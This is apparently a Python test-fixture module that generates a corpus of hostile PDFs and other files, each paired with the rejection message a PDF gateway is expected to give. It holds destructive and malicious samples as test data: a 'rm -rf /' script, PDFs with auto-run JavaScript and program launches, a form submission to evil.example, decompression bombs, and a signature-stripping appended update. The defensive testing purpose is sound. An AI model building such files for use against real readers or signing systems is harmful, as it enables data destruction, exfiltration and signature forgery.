"""The hostile corpus: each file with what its sentence says. Made on the fly, once in a run."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from milepost.gateways import seal
from tests.gateways import pdfs
from tests.gateways.pdfs import CATALOG, PAGE, PAGES, action, annotated, annotation, raw, script, stream, with_

AT = datetime(2026, 11, 22, 12, tzinfo=UTC)
Making = Callable[[Path], bytes]


def _root(**facts: Any) -> Making:
    return lambda _folder: with_(lambda pdf: pdf.Root.update(Dictionary(**facts)))


def _page(**facts: Any) -> Making:
    return lambda _folder: with_(lambda pdf: pdf.pages[0].obj.update(Dictionary(**facts)))


def _annotation(subtype: str, **facts: Any) -> Making:
    return lambda _folder: with_(lambda pdf: annotated(pdf, annotation(subtype, **facts)))


def _field(**facts: Any) -> Making:
    return lambda _folder: with_(lambda pdf: pdfs.field(pdf, **facts))


def _encrypted(user: str) -> Making:
    return lambda _folder: pdfs.saved(pdfs.plain(), encryption=pikepdf.Encryption(owner="owner", user=user))


def _archive(_folder: Path) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    return into.getvalue()


def _signed(folder: Path) -> bytes:
    seal.ensure(folder, "Olga", at=AT)
    return seal.seal(pdfs.saved(pdfs.plain()), keys=folder, at=AT, reason="Signed")


def _signed_and_stripped(folder: Path) -> bytes:
    """Another program has added a change after the signature that lets go of it."""
    body = _signed(folder)
    with pikepdf.open(io.BytesIO(body)) as pdf:
        root = pdf.Root.objgen[0]
        pages = pdf.Root.Pages.objgen[0]
    start = int(body.rsplit(b"startxref", 1)[1].split()[0])
    body += b"\n"
    change = b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R >>\nendobj\n" % (root, pages)
    place, table = len(body), len(body) + len(change)
    body += change + b"xref\n%d 1\n%010d 00000 n \n" % (root, place)
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (10_000, root, start)
    return body + trailer + b"startxref\n%d\n%%%%EOF\n" % table


def _signature_field(pdf: Pdf) -> None:
    pdfs.field(pdf)
    pdf.Root.AcroForm.SigFlags = 1


def _file(pdf: Pdf) -> Dictionary:
    held = Stream(pdf, b"MZ")
    held.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=pdf.make_indirect(held)))


def _embedded(pdf: Pdf) -> None:
    names = Dictionary(Names=Array([String("run.exe"), pdf.make_indirect(_file(pdf))]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=names)


def _attached(pdf: Pdf) -> None:
    annotated(pdf, annotation("FileAttachment", FS=_file(pdf)))


def _layers(pdf: Pdf) -> None:
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Price")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


def _picture_from_elsewhere(pdf: Pdf) -> None:
    picture = Stream(pdf, b"")
    picture.Type, picture.Subtype, picture.F = Name.XObject, Name.Form, String("https://evil.example/page.pdf")
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=pdf.make_indirect(picture))


def _page_of_another_file(pdf: Pdf) -> None:
    picture = Stream(pdf, b"")
    picture.Type, picture.Subtype, picture.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    picture.Ref = Dictionary(F=String("other.pdf"), Page=0)
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=pdf.make_indirect(picture))


def _postscript(pdf: Pdf) -> None:
    program = Stream(pdf, b"showpage")
    program.Type, program.Subtype = Name.XObject, Name.PS
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=pdf.make_indirect(program))


def _deep(depth: int) -> bytes:
    nested = b"[" * depth + b"]" * depth
    return raw(b"<< /Type /Catalog /Pages 2 0 R /Deep %s >>" % nested, PAGES, PAGE, stream(b""))


def _deep_tree(depth: int) -> bytes:
    kids = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % number for number in range(3, depth + 3)]
    return raw(CATALOG, *kids, b"<< /Type /Page /MediaBox [0 0 595 842] >>")


def _bomb(megabytes: int, times: int) -> bytes:
    filters = b"[" + b"/FlateDecode " * times + b"]"
    return raw(CATALOG, PAGES, PAGE, stream(pdfs.packed(megabytes, times), Filter=filters))


def _many_parts(_folder: Path) -> bytes:
    """Small when packed, hundreds of thousands of dictionaries when read."""
    return with_(lambda pdf: pdf.Root.update(Dictionary(Parts=Array([Dictionary() for _ in range(450_000)]))))


def _object_stream_bomb(_folder: Path) -> bytes:
    with pikepdf.open(io.BytesIO(pdfs.saved(pdfs.plain()))) as pdf:
        body = pdfs.saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    # The table of objects is replaced by one that unpacks to three hundred megabytes.
    table = stream(
        pdfs.packed(300), Type=b"/XRef", Filter=b"/FlateDecode", W=b"[1 4 2]", Size=b"44000000", Root=b"1 0 R"
    )
    place = len(body)
    return body + b"99 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % place


def _huge_picture(pdf: Pdf) -> None:
    picture = Stream(pdf, b"\xff\xd8\xff")
    picture.Type, picture.Subtype, picture.Filter = Name.XObject, Name.Image, Name.DCTDecode
    picture.Width, picture.Height, picture.BitsPerComponent, picture.ColorSpace = 60_000, 60_000, 8, Name.DeviceRGB
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=pdf.make_indirect(picture))


def _loop_of_tables(_folder: Path) -> bytes:
    body = raw(CATALOG, PAGES, PAGE, stream(b""), trailer=b"/Prev 7")
    table = body.index(b"xref\n")
    return body.replace(b"/Prev 7", b"/Prev %d" % table)


def _loop_of_pages(_folder: Path) -> bytes:
    return raw(CATALOG, b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", PAGE, stream(b""))


def _sized(*box: int, **facts: Any) -> Making:
    return _page(MediaBox=Array(list(box)), **facts)


def _comments(subtype: str) -> Making:
    return _annotation(subtype, Contents=String("Really 60 days?"))


def _without_look(pdf: Pdf) -> None:
    pdfs.field(pdf, look=False, V=String("USD 6,000"))


def _needs_look(pdf: Pdf) -> None:
    pdfs.field(pdf, V=String("USD 6,000"))
    pdf.Root.AcroForm.NeedAppearances = True


def _uri(**facts: Any) -> Dictionary:
    return annotation("Link", A=action("URI", URI=String("https://example.org"), **facts))


_FILE: dict[str, Any] = {"F": String("calc.exe")}

# What it is -> how it is made, and what its sentence says.
FILES: dict[str, tuple[Making, str]] = {
    "a program": (lambda _folder: b"MZ\x90\x00" + bytes(5_000), "a program"),
    "a program for Linux": (lambda _folder: b"\x7fELF" + bytes(5_000), "a program"),
    "a script": (lambda _folder: b"#!/bin/sh\nrm -rf /\n", "a program"),
    "a Word document": (_archive, "Word document"),
    "a web page": (lambda _folder: b"<!doctype html><script>alert(1)</script>", "a web page"),
    "a picture": (lambda _folder: b"\x89PNG\r\n\x1a\n" + bytes(100), "a picture"),
    "nothing": (lambda _folder: b"", "not a PDF"),
    "noise": (lambda _folder: bytes(range(256)) * 40, "not a PDF"),
    "a program behind a head": (lambda _folder: b"%PDF-1.7\nMZ" + bytes(5_000), "damaged"),
    "for a password": (_encrypted("user"), "asks for a password"),
    "protected": (_encrypted(""), "protected against changes"),
    "half of it": (lambda _folder: (whole := pdfs.saved(pdfs.plain(9)))[: len(whole) // 2], "damaged"),
    "without its end": (lambda _folder: pdfs.saved(pdfs.plain(9))[:-30], "damaged"),
    "without pages": (lambda _folder: pdfs.saved(Pdf.new()), "damaged"),
    "201 pages": (lambda _folder: pdfs.saved(pdfs.plain(201)), "201 pages; 200 are the most"),
    "5,000 pages": (lambda _folder: pdfs.saved(pdfs.plain(5_000)), "5000 pages"),
    "signed": (_signed, "signed already"),
    "signed, and let go": (_signed_and_stripped, "signed already"),
    "certified": (_root(Perms=Dictionary(DocMDP=Dictionary(Type=Name.Sig))), "signed already"),
    "a field for a signature": (_field(FT=Name.Sig), "digital signature of another program"),
    "flags of signatures": (lambda _folder: with_(_signature_field), "digital signature of another program"),
    "script by name": (
        _root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))),
        "JavaScript",
    ),
    "script on opening": (_root(OpenAction=script()), "JavaScript"),
    "script on closing": (_root(AA=Dictionary(WC=script())), "JavaScript"),
    "script of a page": (_page(AA=Dictionary(O=script())), "JavaScript"),
    "script of a link": (_annotation("Link", A=script()), "JavaScript"),
    "script after a link": (lambda _folder: with_(lambda pdf: annotated(pdf, _uri(Next=script()))), "JavaScript"),
    "script of a field": (_field(AA=Dictionary(K=script())), "JavaScript"),
    "script of a heading": (
        _root(Outlines=Dictionary(First=Dictionary(Title=String("x"), A=script()))),
        "JavaScript",
    ),
    "a form of XFA": (_root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))), "XFA"),
    "starts a program": (_root(OpenAction=action("Launch", **_FILE)), "starts programs"),
    "starts a program by a link": (_annotation("Link", A=action("Launch", **_FILE)), "starts programs"),
    "sends data": (_annotation("Link", A=action("SubmitForm", F=String("https://evil.example"))), "starts programs"),
    "takes data in": (_annotation("Link", A=action("ImportData", **_FILE)), "starts programs"),
    "opens another file": (_annotation("Link", A=action("GoToR", **_FILE)), "starts programs"),
    "opens a file within": (_annotation("Link", A=action("GoToE", **_FILE)), "starts programs"),
    "an embedded file": (lambda _folder: with_(_embedded), "Other files are embedded"),
    "an attached file": (lambda _folder: with_(_attached), "Other files are embedded"),
    "an associated file": (_root(AF=Array([Dictionary(Type=Name.Filespec)])), "Other files are embedded"),
    "a portfolio": (_root(Collection=Dictionary()), "Other files are embedded"),
    "rich media": (_annotation("RichMedia"), "film, sound"),
    "a model": (_annotation("3D"), "film, sound"),
    "a film": (_annotation("Movie"), "film, sound"),
    "a sound": (_annotation("Sound"), "film, sound"),
    "a sound on opening": (_root(OpenAction=action("Sound")), "film, sound"),
    "a picture from elsewhere": (lambda _folder: with_(_picture_from_elsewhere), "from other files"),
    "a page of another file": (lambda _folder: with_(_page_of_another_file), "from other files"),
    "PostScript": (lambda _folder: with_(_postscript), "from other files"),
    "layers": (lambda _folder: with_(_layers), "layers"),
    "a comment": (_comments("Text"), "comments or marks"),
    "a mark for a change": (_comments("Caret"), "comments or marks"),
    "something to be blacked out": (_comments("Redact"), "comments or marks"),
    "a note without a look": (_comments("FreeText"), "shows in its own way"),
    "a field without a look": (lambda _folder: with_(_without_look), "shows in its own way"),
    "a field to be drawn": (lambda _folder: with_(_needs_look), "shows in its own way"),
    "a page too small": (_sized(0, 0, 20, 20), "Page 1 is smaller"),
    "a page too large": (_sized(0, 0, 3_400, 3_400), "or larger than A0"),
    "a page too large by its unit": (_sized(0, 0, 595, 842, UserUnit=10), "or larger than A0"),
    "a page with nothing seen of it": (
        _sized(0, 0, 595, 842, CropBox=Array([900, 900, 990, 990])),
        "Page 1 is smaller",
    ),
    "a page of no size": (_page(MediaBox=Array([String("x")])), "damaged"),
    "a page turned a little": (_page(Rotate=45), "damaged"),
    "a bomb": (lambda _folder: _bomb(200, 1), "unpacks to more"),
    "a bomb in a bomb": (lambda _folder: _bomb(300, 2), "unpacks to more"),
    "packed over and over": (lambda _folder: _bomb(1, 9), "unpacks to more"),
    "several bombs": (
        lambda _folder: raw(
            CATALOG,
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R 6 0 R 7 0 R 8 0 R 9 0 R] >>",
            *[stream(pdfs.packed(100), Filter=b"/FlateDecode")] * 6,
        ),
        "unpacks to more",
    ),
    "a bomb of objects": (_object_stream_bomb, ""),
    "a huge picture": (lambda _folder: with_(_huge_picture), "unpacks to more"),
    "many parts": (_many_parts, "unpacks to more"),
    "deeply nested": (lambda _folder: _deep(2_000), ""),
    "very deeply nested": (lambda _folder: _deep(2_000_000), ""),
    "a deep tree of pages": (lambda _folder: _deep_tree(50_000), ""),
    "a loop of tables": (_loop_of_tables, "damaged"),
    "a loop of pages": (_loop_of_pages, "damaged"),
    "a length that is itself": (
        lambda _folder: raw(CATALOG, PAGES, PAGE, b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
        "damaged",
    ),
    "a stream that is none": (
        lambda _folder: raw(CATALOG, PAGES, PAGE, stream(b"no zlib", Filter=b"/FlateDecode")),
        "damaged",
    ),
}


@cache
def made(what: str, folder: Path) -> bytes:
    return FILES[what][0](folder)
